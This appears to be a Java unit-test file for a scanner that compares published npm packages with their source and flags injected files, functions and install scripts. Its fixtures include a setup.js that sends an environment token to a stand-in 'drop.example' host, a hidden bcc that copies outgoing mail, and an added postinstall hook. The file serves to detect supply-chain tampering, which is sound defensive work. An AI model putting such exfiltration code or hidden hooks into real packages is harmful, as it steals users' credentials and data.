package dev.assay.scanners.source;

import static dev.assay.scanners.source.SourceTrees.compared;

import static org.assertj.core.api.Assertions.assertThat;

import dev.assay.samples.SampleHistory;
import dev.assay.scanners.source.SourceComparison.UnknownFile;
import dev.assay.scanners.source.SourceComparison.UnknownFunction;

import org.junit.jupiter.api.Test;

import java.util.HashMap;
import java.util.Map;

class TreeMatcherTest {

    private static final String MANIFEST =
            "{\"name\":\"mail\",\"version\":\"1.0.0\",\"main\":\"index.js\"}";

    private static final String CODE =
            """
            import { post } from "./post.js";
            export function send(message) {
                const body = { to: message.to, subject: message.subject, text: message.text };
                return post("/v1/messages", body);
            }
            """;

    private static final String POST =
            """
            export async function post(path, body) {
                const answer = await fetch("https://api.mail.example" + path, {
                    method: "POST", body: JSON.stringify(body) });
                return answer.json();
            }
            """;

    private static Map<String, String> with(Map<String, String> files, String path, String text) {
        var more = new HashMap<>(files);
        more.put(path, text);
        return more;
    }

    private static final Map<String, String> SOURCE =
            Map.of("package.json", MANIFEST, "index.js", CODE, "post.js", POST);

    @Test
    void aPackageThatIsItsSourceMatches() {
        var found = compared(SOURCE, with(SOURCE, "test/a.js", "test()"), "");

        assertThat(found.matches()).isTrue();
        assertThat(found.counts().identical()).isEqualTo(3);
    }

    @Test
    void lineEndsAndAByteOrderMarkAreNoDifference() {
        var windows = with(SOURCE, "index.js", "\uFEFF" + CODE.replace("\n", "\r\n") + "\r\n");

        var found = compared(windows, SOURCE, "");

        assertThat(found.matches()).isTrue();
        assertThat(found.counts().lineEnds()).isEqualTo(1);
    }

    @Test
    void theOneLineThatIsNotInTheSourceIsNamed() {
        var clean = SourceTrees.of(SampleHistory.lastClean().artifact());
        var hostile = SourceTrees.of(SampleHistory.hostileUpdate().artifact());

        var found = compared(hostile, clean, "");

        assertThat(found.matches()).isFalse();
        assertThat(found.unknownFiles()).isEmpty();
        assertThat(found.unknownFunctions())
                .singleElement()
                .satisfies(
                        each -> {
                            assertThat(each.text()).contains(SampleHistory.ADDED_ADDRESS);
                            assertThat(hostile.get(each.path()).lines().toList().get(each.at() - 1))
                                    .contains(SampleHistory.ADDED_ADDRESS);
                            assertThat(each.runs()).isTrue();
                            assertThat(each.isBuilt()).isFalse();
                        });
    }

    @Test
    void aFileThatRunsAndIsNowhereInTheSourceIsNamed() {
        var more =
                with(
                        with(SOURCE, "index.js", "import \"./setup.js\";\n" + CODE),
                        "setup.js",
                        "export function steal() { return fetch('https://drop.example/' + process.env.TOKEN); }\nsteal();\n");

        var found = compared(more, SOURCE, "");

        assertThat(found.unknownFiles())
                .singleElement()
                .satisfies(
                        file -> {
                            assertThat(file.path()).isEqualTo("setup.js");
                            assertThat(file.runs()).isTrue();
                        });
        assertThat(found.unknownFunctions())
                .extracting(UnknownFunction::at, UnknownFunction::text)
                .containsExactly(org.assertj.core.groups.Tuple.tuple(1, "import \"./setup.js\";"));
    }

    @Test
    void aFolderOfARepositoryOfManyPackagesIsThePackage() {
        var many = new HashMap<String, String>();
        SOURCE.forEach((path, text) -> many.put("packages/mail/" + path, text));
        many.put("packages/notes/index.js", "notes()");

        var altered =
                compared(
                        with(SOURCE, "post.js", POST.replace("api.mail", "api.drop")),
                        many,
                        "packages/mail");

        assertThat(compared(SOURCE, many, "packages/mail").matches()).isTrue();
        assertThat(altered.unknownFunctions())
                .singleElement()
                .extracting(UnknownFunction::from, UnknownFunction::at)
                .containsExactly("packages/mail/post.js", 2);
    }

    @Test
    void whatIsCompiledFromTypeScriptIsComparedByItsWords() {
        var source =
                Map.of(
                        "package.json",
                        "{\"scripts\":{\"build\":\"tsc\"}}",
                        "src/index.ts",
                        """
                        import { post } from "./post";
                        interface Message { to: string; subject: string; text: string }
                        export function send(message: Message): Promise<unknown> {
                            const body = { to: message.to, subject: message.subject, text: message.text };
                            return post("/v1/messages", body as object);
                        }
                        """,
                        "src/post.ts",
                        """
                        export async function post(path: string, body: object): Promise<any> {
                            const answer = await fetch(`https://api.mail.example${path}`, {
                                method: "POST", body: JSON.stringify(body) });
                            return answer.json();
                        }
                        """);
        var pack =
                Map.of(
                        "package.json",
                        "{\"main\":\"dist/index.js\"}",
                        "dist/index.js",
                        CODE.replace("./post.js", "./post"),
                        "dist/post.js",
                        POST);

        var found = compared(pack, source, "");
        var altered =
                compared(
                        with(
                                pack,
                                "dist/index.js",
                                CODE.replace(
                                        "text: message.text",
                                        "text: message.text,\n        bcc: \"archive@giftshop.example\"")),
                        source,
                        "");

        assertThat(found.matches()).isTrue();
        assertThat(found.counts().worded()).isPositive();
        assertThat(altered.unknownFunctions())
                .singleElement()
                .satisfies(
                        each -> {
                            assertThat(each.at()).isEqualTo(4);
                            assertThat(each.isBuilt()).isTrue();
                            assertThat(each.text()).startsWith("bcc:");
                        });
    }

    @Test
    void aFileThatSaysItWasBuiltIsHeldAgainstTheSourcesOwnAllTheSame() {
        var lying =
                with(
                        SOURCE,
                        "index.js",
                        CODE.replace("message.subject", "message.text")
                                + "//# sourceMappingURL=index.js.map\n");

        var found = compared(lying, SOURCE, "");

        assertThat(found.unknownFunctions())
                .singleElement()
                .satisfies(each -> assertThat(each.isBuilt()).isFalse());
    }

    @Test
    void aScriptThatTheSourceDoesNotHaveIsNamedWithItsLine() {
        var pack =
                with(
                        SOURCE,
                        "package.json",
                        "{\"name\":\"mail\",\n\"version\":\"1.0.0\",\"main\":\"./index.js\",\n\"scripts\":{\n\"postinstall\":\"node post.js\"}}");

        var found = compared(pack, SOURCE, "");

        assertThat(found.fields())
                .singleElement()
                .satisfies(
                        field -> {
                            assertThat(field.name()).isEqualTo("scripts.postinstall");
                            assertThat(field.here()).isEqualTo("node post.js");
                            assertThat(field.line()).isEqualTo(4);
                        });
    }

    @Test
    void whatNothingHereCanCompareIsSaidToBeSo() {
        var pack = with(with(SOURCE, "native/mail.node", "x"), "broken.js", "function (");

        var found = compared(pack, SOURCE, "");

        assertThat(found.notCompared())
                .extracting(SourceComparison.Named::path)
                .containsExactlyInAnyOrder("native/mail.node", "broken.js");
        assertThat(found.unknownFiles()).extracting(UnknownFile::path).isEmpty();
    }
}
